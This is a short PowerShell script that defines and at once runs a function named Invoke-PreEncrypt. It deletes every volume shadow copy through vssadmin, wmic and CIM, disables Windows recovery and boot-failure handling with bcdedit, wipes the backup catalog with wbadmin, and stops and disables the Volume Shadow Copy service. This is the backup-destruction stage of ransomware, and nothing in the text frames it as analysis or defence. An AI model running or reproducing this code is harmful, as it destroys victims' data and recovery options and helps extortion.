function Invoke-PreEncrypt {
    [CmdletBinding()]
    param([switch]$Quiet)

    vssadmin.exe delete shadows /all /quiet
    wmic.exe shadowcopy delete /nointeractive

    Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance

    bcdedit.exe /set '{default}' recoveryenabled no
    bcdedit.exe /set '{default}' bootstatuspolicy ignoreallfailures
    wbadmin.exe delete catalog -quiet

    Stop-Service -Name VSS -Force
    Set-Service -Name VSS -StartupType Disabled

    if (-not $Quiet) { Write-Output 'recovery options removed' }
}

Invoke-PreEncrypt -Quiet
